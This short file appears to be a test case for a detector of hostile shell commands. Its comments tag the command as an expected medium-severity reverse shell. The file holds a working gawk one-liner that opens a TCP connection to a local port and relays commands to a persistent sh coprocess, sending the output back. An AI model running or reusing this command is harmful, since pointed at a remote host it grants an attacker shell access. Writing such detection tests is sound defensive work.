# about: gawk talks to the network, and to a lasting shell as its coprocess
# expect: reverse_shell medium
# needs: python3 gawk
proven 4511
timeout 6 gawk 'BEGIN{s="/inet/tcp/0/127.0.0.1/4511";c="sh 2>&1";while((s|&getline l)>0){if(l=="exit")break;print l"; echo --end--"|&c;while((c|&getline o)>0){if(o=="--end--")break;print o|&s}}}' || true
answered
